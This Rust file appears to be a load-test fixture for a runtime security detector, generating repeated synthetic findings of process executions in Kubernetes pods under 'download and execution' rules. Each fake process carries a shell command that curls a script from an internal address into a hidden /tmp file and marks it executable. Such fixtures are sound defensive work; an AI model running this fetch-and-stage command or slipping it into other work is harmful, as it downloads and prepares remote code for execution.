//! The findings that are delivered.

use std::sync::Arc;

use rampart_model::{
    Container, Context, EventKind, Finding, FindingId, Pod, Process, ProcessKey, RuleRef, Subject, Timestamp,
};
use rampart_testkit::sample;

/// How many different ones there are: they come again and again.
const DIFFERENT: u64 = 512;

/// Rules that have found something.
const RULES: u64 = 24;

/// Between two of them.
const APART_NS: i128 = 1_700_000;

/// Findings of execs in pods: 2 KB each as messages, of which half are names and numbers that no other has.
pub(crate) struct Load(Vec<Arc<Finding>>);

impl Load {
    pub(crate) fn new() -> Self {
        Self((0..DIFFERENT).map(|number| Arc::new(finding(number))).collect())
    }

    /// So many, one after the other.
    pub(crate) fn take(&self, count: u64) -> impl Iterator<Item = &Arc<Finding>> {
        let count = usize::try_from(count).unwrap_or(usize::MAX);
        self.0.iter().cycle().take(count)
    }

    pub(crate) fn different(&self) -> &[Arc<Finding>] {
        &self.0
    }
}

fn finding(number: u64) -> Finding {
    // Spread over all digits.
    let mixed = number.wrapping_mul(0x9e37_79b9_7f4a_7c15).rotate_left(17);
    let mut event = sample::event(EventKind::Exec);
    let pid = u32::try_from(1000 + mixed % 60_000).unwrap_or_default();
    let arguments = [
        "sh".to_owned(),
        "-c".to_owned(),
        format!(
            "curl -fsSL http://10.{}.0.7/{mixed:x}.sh -o /tmp/.{:x} && chmod +x /tmp/.{number}",
            number % 256,
            mixed >> 40
        ),
    ];
    let container = sample::script().container.as_deref().cloned().unwrap_or_default();
    let pod = container.pod.unwrap_or_default();
    let name = format!("shop-{:x}-{:x}", mixed >> 44, number);
    let container = Container {
        id: format!("{mixed:016x}{:016x}", mixed.rotate_left(29)).into(),
        pod: Some(Pod { name: Some(name.into()), ..pod }),
        ..container
    };
    event.process = Arc::new(Process {
        key: ProcessKey { pid, start_ns: mixed },
        entity_id: format!("{:016x}-{pid}", mixed.rotate_left(41)).into(),
        args: arguments.iter().map(String::as_str).collect(),
        container: Some(Arc::new(container)),
        ..sample::process()
    });
    event.time = Timestamp::from_nanos(event.time.as_nanos() + i128::from(number) * APART_NS);
    let rule = RuleRef {
        id: format!("11111111-2222-4333-8444-{:012}", number % RULES).into(),
        title: format!("Download and execution, variant {}", number % RULES).into(),
        ..sample::rule()
    };
    let (time, event) = (event.time, Arc::new(event));
    let subject = Subject::Runtime { event, rule: Arc::new(rule), context: Context::default() };
    Finding { id: FindingId::random(), time, subject, ..sample::finding() }
}
